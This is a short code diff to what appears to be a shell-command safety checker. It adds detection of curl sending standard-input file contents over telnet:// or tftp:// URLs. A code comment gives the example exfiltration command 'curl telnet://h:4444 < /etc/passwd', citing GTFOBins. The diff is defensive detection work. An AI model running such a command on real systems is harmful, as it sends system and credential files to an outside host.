@@ -168,6 +168,14 @@ def _fetch(cmd: Cmd) -> None:
                 uploads.append(("@" + w.text.split("@", 1)[1], w.dynamic))
         if cmd.stdin.kind in ("file", "other") or cmd.stdin.secret:
             uploads.append(("@-", False))
+    if (
+        n == "curl"
+        and cmd.stdin.kind in (STDIN_FILE, STDIN_OTHER)
+        and any(re.match(r"(?i)\A(?:telnet|tftp)://", w.text) for w in cmd.args)
+    ):
+        # `curl telnet://h:4444 < /etc/passwd`: curl's telnet sends its standard input to
+        # the peer (GTFOBins "file upload", safety-m9)
+        uploads.append(("@-", False))
     sent_files = [v.lstrip("@<") for v, _ in uploads if v.startswith(("@", "<"))]
     if cmd.stdin.kind == STDIN_STATIC and not cmd.stdin.secret:
         # `@-` with literal text on stdin (a heredoc, `echo hello |`) sends that text: data
